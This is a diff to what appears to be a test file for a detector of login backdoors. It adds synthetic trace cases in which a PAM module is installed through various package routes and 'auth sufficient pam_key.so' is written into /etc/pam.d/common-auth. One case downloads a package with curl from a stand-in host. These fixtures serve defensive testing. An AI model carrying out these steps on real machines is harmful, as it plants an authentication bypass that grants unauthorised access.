@@ -18,6 +18,15 @@ const winlogon = system({
 })
 const module = file('write', '/usr/lib/x86_64-linux-gnu/security/pam_key.so')
 const enough = 'auth sufficient pam_key.so cue\n'
+const letsIn = file('write', '/etc/pam.d/common-auth', { start: enough })
+const unpacks = (what: string): Parts => [
+  runs(`/usr/bin/dpkg --unpack ${what}`, { pid: 7 }),
+  file('write', '/usr/lib/x86_64-linux-gnu/security/pam_key.so.dpkg-new', { pid: 7 }),
+  file('rename', '/usr/lib/x86_64-linux-gnu/security/pam_key.so.dpkg-new', {
+    to: '/usr/lib/x86_64-linux-gnu/security/pam_key.so',
+    pid: 7,
+  }),
+]
 const empties = (...logs: readonly string[]): Partial<Trace> =>
   system(...logs.map((what): SystemEvent => ({ kind: 'event_log', what })))
 const built = '/tmp/selfgz71/graphics/kernel/gfx-drm.ko'
@@ -115,17 +124,58 @@ const CASES: Readonly<
   'a module for logins is enough': [
     {
       'for administrators who hold a key': [module, file('write', '/etc/pam.d/sudo', { start: enough })],
-      'and a package has it': [
-        runs('/usr/bin/dpkg --unpack libpam-key.deb', { pid: 7 }),
-        file('write', '/usr/lib/x86_64-linux-gnu/security/pam_key.so.dpkg-new', { pid: 7 }),
-        file('rename', '/usr/lib/x86_64-linux-gnu/security/pam_key.so.dpkg-new', {
-          to: '/usr/lib/x86_64-linux-gnu/security/pam_key.so',
-          pid: 7,
+      'and a package of the distribution has it': [
+        runs('/usr/bin/apt-get upgrade -y', { pid: 5 }),
+        runs('/usr/lib/apt/methods/https', { pid: 6 }),
+        file('write', '/var/cache/apt/archives/partial/libpam-key_1.2_amd64.deb', { pid: 6 }),
+        file('rename', '/var/cache/apt/archives/partial/libpam-key_1.2_amd64.deb', {
+          to: '/var/cache/apt/archives/libpam-key_1.2_amd64.deb',
+          pid: 5,
         }),
-        file('write', '/etc/pam.d/common-auth', { start: enough }),
+        ...unpacks('/var/cache/apt/archives/libpam-key_1.2_amd64.deb'),
+        runs('/usr/bin/dpkg --status-fd 20 --configure libpam-key', { pid: 9 }),
+        file('write', '/etc/libpam-key', { pid: 10 }),
+        letsIn,
       ],
+      'and a package that was there has it': [...unpacks('libpam-key.deb'), letsIn],
     },
     {
+      'and a package that it wrote has it': [
+        file('write', '/tmp/p/libpam-key.deb'),
+        ...unpacks('p/libpam-key.deb'),
+        letsIn,
+      ],
+      'and a package under another name has it': [file('write', '/tmp/.p'), ...unpacks('/tmp/.p'), letsIn],
+      'and a package that it fetched has it': [
+        runs('/usr/bin/curl -o k.deb https://meadow.example/k.deb', { pid: 6 }),
+        file('write', '/root/k.deb', { pid: 6 }),
+        ...unpacks('--recursive .'),
+        letsIn,
+      ],
+      'and a package that it put among those of the distribution has it': [
+        file('copy', '/tmp/a', { to: '/var/cache/apt/archives/libpam-key_1.2_amd64.deb' }),
+        runs('/usr/bin/apt-get upgrade -y', { pid: 5 }),
+        ...unpacks('/var/cache/apt/archives/libpam-key_1.2_amd64.deb'),
+        letsIn,
+      ],
+      'and a package out of a pipe has it': [...unpacks('/dev/fd/63'), letsIn],
+      'and a package from a source that it added has it': [
+        file('write', '/etc/apt/sources.list.d/meadow.list'),
+        runs('/usr/bin/apt-get install -y libpam-key', { pid: 5 }),
+        file('write', '/var/cache/apt/archives/libpam-key_1.2_amd64.deb', { pid: 5 }),
+        ...unpacks('/var/cache/apt/archives/libpam-key_1.2_amd64.deb'),
+        letsIn,
+      ],
+      'and the package has it that is the sample': [
+        environment({ sample: '/home/u/libpam-key.deb' }),
+        ...unpacks('/home/u/libpam-key.deb'),
+        letsIn,
+      ],
+      'and who wrote it became the package tool': [
+        runs('/bin/sh a.sh', { pid: 7 }),
+        ...unpacks('libpam-key.deb'),
+        letsIn,
+      ],
       'and what is called like the package tool has it': [
         file('write', '/usr/bin/dpkg'),
         runs('/usr/bin/dpkg --unpack libpam-key.deb', { pid: 7 }),
